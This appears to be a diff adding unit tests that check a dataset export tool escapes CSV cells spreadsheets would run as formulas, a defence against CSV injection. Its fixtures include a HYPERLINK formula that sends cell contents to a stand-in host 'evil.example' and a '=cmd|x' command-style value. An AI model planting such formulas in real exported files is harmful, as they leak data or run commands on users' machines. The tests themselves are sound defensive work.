@@ -207,3 +207,57 @@ describe('round trips through parseDatasetFile', () => {
     ]);
   });
 });
+
+describe('CSV cells a spreadsheet would run as formulas (OWASP, CSV injection)', () => {
+  const risky: Utterance[] = [
+    {
+      text: '=HYPERLINK("http://evil.example/?q="&A1,"card")',
+      intent: 'card_arrival',
+      language: 'en',
+    },
+    { text: '+1+1 is my balance', intent: 'card_arrival', language: 'en' },
+    { text: '-2+3 where is my card', intent: 'card_arrival', language: 'en' },
+    { text: '@SUM(A1:A9)', intent: 'card_arrival', language: 'en' },
+    { text: '\tcard, tab first', intent: 'card_arrival', language: 'en' },
+    { text: '-42', intent: 'card_arrival', language: 'en' },
+    { text: 'a = b is fine inside', intent: 'card_arrival', language: 'en' },
+  ];
+
+  it("writes them with a leading ', quoted where needed; plain numbers and inner signs stay", async () => {
+    const text = (await exportText('utterances', risky, 'csv')).join('');
+    expect(text.split('\n')).toEqual([
+      'text,intent,language',
+      `"'=HYPERLINK(""http://evil.example/?q=""&A1,""card"")",card_arrival,en`,
+      "'+1+1 is my balance,card_arrival,en",
+      "'-2+3 where is my card,card_arrival,en",
+      "'@SUM(A1:A9),card_arrival,en",
+      `"'\tcard, tab first",card_arrival,en`,
+      '-42,card_arrival,en',
+      'a = b is fine inside,card_arrival,en',
+      '',
+    ]);
+    // No cell of the file begins with a formula character any more.
+    for (const line of text.trim().split('\n').slice(1)) expect(line).not.toMatch(/^"?[=+@\t\r]/);
+  });
+
+  it('imports back with the quote kept in the escaped texts (README), the others unchanged', async () => {
+    const text = (await exportText('utterances', risky, 'csv')).join('');
+    const back = reimport('utterances', text, 'csv') as Utterance[];
+    expect(back.map((u) => u.text)).toEqual([
+      `'${risky[0]!.text}`,
+      `'${risky[1]!.text}`,
+      `'${risky[2]!.text}`,
+      `'${risky[3]!.text}`,
+      "'\tcard, tab first",
+      '-42',
+      'a = b is fine inside',
+    ]);
+  });
+
+  it('keeps negative values of time series as numbers, and escapes a series id', async () => {
+    const text = (
+      await exportText('timeseries', [{ ...series[1]!, series_id: '=cmd|x' }], 'csv')
+    ).join('');
+    expect(text.split('\n')[1]).toBe("'=cmd|x,2024-01-01T00:00:00Z,-3.5,sensors,temperature,°C,1D");
+  });
+});
